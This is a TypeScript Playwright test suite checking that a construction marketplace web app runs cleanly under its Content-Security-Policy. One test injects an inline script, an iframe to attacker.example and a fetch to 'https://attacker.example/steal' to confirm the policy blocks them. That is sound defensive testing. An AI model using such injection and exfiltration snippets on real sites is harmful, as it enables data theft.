import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { useAppUnderTest } from './support/appUnderTest.ts';
import { axeViolations } from './support/axe.ts';
import { signInAsDemoBuyer } from './support/journeys.ts';

/*
 * The built host app under its Content-Security-Policy (packages/server/src/http/securityHeaders.ts):
 * each page works and the browser reports no violation of the policy and no console error.
 */

const app = useAppUnderTest();

/** A 1x1 PNG: every outside image (map tiles, video thumbnails), since this machine has no network. */
const PIXEL_PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mPk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

interface Watched {
  page: Page;
  /** What the policy refused, as `directive: blocked URI (source)`. */
  violations: () => Promise<string[]>;
  consoleErrors: string[];
}

/**
 * A page whose outside requests are answered by the test (a CSP-refused request never reaches
 * them: the browser refuses it first and reports a violation), recording violations and errors.
 */
async function watchedPage(): Promise<Watched> {
  const page = await app.newPage();
  const consoleErrors: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') consoleErrors.push(message.text());
  });
  page.on('pageerror', (error) => consoleErrors.push(`uncaught: ${error.message}`));
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener(
      'securitypolicyviolation',
      (event) => seen.push(`${event.effectiveDirective}: ${event.blockedURI} (${event.sourceFile}:${event.lineNumber})`),
      true,
    );
  });
  await page.route(/^https:\/\//, (route) => {
    const url = new URL(route.request().url());
    if (url.hostname === 'nominatim.openstreetmap.org')
      return route.fulfill({ json: { address: { road: '80 Feet Road', suburb: 'Koramangala', city: 'Bengaluru', state: 'Karnataka', country: 'India' } } });
    if (route.request().resourceType() === 'image') return route.fulfill({ contentType: 'image/png', body: PIXEL_PNG });
    if (route.request().resourceType() === 'document') return route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Video</title>' });
    return route.fulfill({ status: 204 });
  });
  return { page, consoleErrors, violations: () => page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations) };
}

async function open(watched: Watched, path: string, heading: string | RegExp): Promise<void> {
  const response = await watched.page.goto(`${app.server.url}${path}`);
  const csp = response?.headers()['content-security-policy'] ?? '';
  expect(csp).toContain("script-src 'self';");
  await watched.page.getByRole('heading', { level: 1, name: heading }).waitFor();
  await watched.page.waitForLoadState('networkidle');
}

async function expectClean(watched: Watched): Promise<void> {
  expect(await watched.violations()).toEqual([]);
  expect(watched.consoleErrors).toEqual([]);
  await watched.page.context().close();
}

describe('the host app under its Content-Security-Policy', () => {
  it('/ shows the home page and its categories', async () => {
    const watched = await watchedPage();
    await open(watched, '/', /./);
    await watched.page
      .getByRole('link', { name: /^Cement/ })
      .first()
      .waitFor();
    await expectClean(watched);
  });

  it('/products lists products and a product page shows its suppliers', async () => {
    const watched = await watchedPage();
    const { page } = watched;
    await open(watched, '/products', /./);
    const viewPrices = page.getByRole('link', { name: /^View Prices for / });
    await viewPrices.first().click();
    await page.waitForURL(/\/products\/\d+$/);
    await page.getByRole('radio').first().waitFor();
    await page.waitForLoadState('networkidle');
    await expectClean(watched);
  });

  it('a product page opened directly (a deep link served by the not-found handler)', async () => {
    const products = (await (await fetch(`${app.server.url}/api/v1/products/?limit=1`)).json()) as Array<{ id: number; name: string }>;
    const watched = await watchedPage();
    await open(watched, `/products/${products[0]!.id}`, /./);
    await watched.page.getByRole('radio').first().waitFor();
    await expectClean(watched);
  });

  it('/labour-force-calculator calculates', async () => {
    const watched = await watchedPage();
    const { page } = watched;
    await open(watched, '/labour-force-calculator', 'Labour Force Calculator');
    await page.getByLabel('Quantity (sqft)').fill('6000');
    await page.getByLabel('Duration (days)').fill('5');
    await page.getByRole('button', { name: 'Calculate' }).click();
    await page.locator('dt', { hasText: /^Total crew$/ }).waitFor();
    expect(await axeViolations(page)).toEqual([]);
    await expectClean(watched);
  });

  it('/toolkit shows its topics; the policy admits the YouTube player and thumbnails', async () => {
    const watched = await watchedPage();
    const { page } = watched;
    await open(watched, '/toolkit', 'Construction Educational Hub');
    await page
      .getByRole('list', { name: 'Site Marking & Layout topics' })
      .getByRole('link', { name: /^Search YouTube/ })
      .first()
      .waitFor();
    // No video is published yet (videoLibraryData.ts): load what a published one shows, the
    // privacy-enhanced player and an i.ytimg.com thumbnail, as the widget does.
    await page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.src = 'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?autoplay=1';
      frame.title = 'player';
      const thumbnail = document.createElement('img');
      thumbnail.src = 'https://i.ytimg.com/vi/dQw4w9WgXcQ/hqdefault.jpg';
      thumbnail.alt = '';
      document.body.append(frame, thumbnail);
    });
    await page.waitForLoadState('networkidle');
    // Decoded once it has arrived: networkidle can come first on a busy machine.
    await expect.poll(() => page.locator('img[src^="https://i.ytimg.com"]').evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1);
    await expectClean(watched);
  });

  it('refuses what the policy does not name: an inline script, an unknown frame, a foreign fetch', async () => {
    const watched = await watchedPage();
    const { page } = watched;
    await open(watched, '/labour-force-calculator', 'Labour Force Calculator');
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true';
      document.body.append(script);
      const frame = document.createElement('iframe');
      frame.src = 'https://attacker.example/frame';
      document.body.append(frame);
      await fetch('https://attacker.example/steal').catch(() => undefined);
      await new Promise((resolve) => setTimeout(resolve, 200));
      return (window as unknown as { __injected?: boolean }).__injected === true;
    });
    expect(ran).toBe(false);
    const violations = await watched.violations();
    expect(violations.some((line) => line.startsWith('script-src-elem: inline'))).toBe(true);
    expect(violations.some((line) => line.startsWith('frame-src: https://attacker.example'))).toBe(true);
    expect(violations.some((line) => line.startsWith('connect-src: https://attacker.example'))).toBe(true);
    await page.context().close();
  });

  it('/location-setup shows the map tiles and reverse-geocodes a picked point', async () => {
    const watched = await watchedPage();
    const { page } = watched;
    await signInAsDemoBuyer(page, app.server.url);
    await open(watched, '/location-setup', /./);
    await page.locator('.leaflet-tile-loaded').first().waitFor();
    const geocoded = page.waitForRequest((request) => request.url().startsWith('https://nominatim.openstreetmap.org/'));
    const box = (await page.getByRole('application', { name: 'Map' }).boundingBox())!;
    await page.mouse.click(box.x + box.width * 0.7, box.y + box.height * 0.35);
    await geocoded;
    await page.waitForLoadState('networkidle');
    await expectClean(watched);
  });

  it('the API explorer works under the same policy', async () => {
    const watched = await watchedPage();
    const { page } = watched;
    await page.goto(`${app.server.url}/api/docs/`);
    await page.getByText('Nirmaan API').first().waitFor();
    await page.waitForLoadState('networkidle');
    await expectClean(watched);
  });
});

describe('a partner page embedding a widget', () => {
  it('loads embed.js and the widget, with its inline configuration allowed', async () => {
    const watched = await watchedPage();
    const { page } = watched;
    await page.goto(`${app.server.url}/examples/dealer-site.html`);
    await page.locator('nirmaan-labour-calculator').getByRole('button', { name: 'Calculate' }).waitFor();
    await page.waitForLoadState('networkidle');
    await expectClean(watched);
  });
});
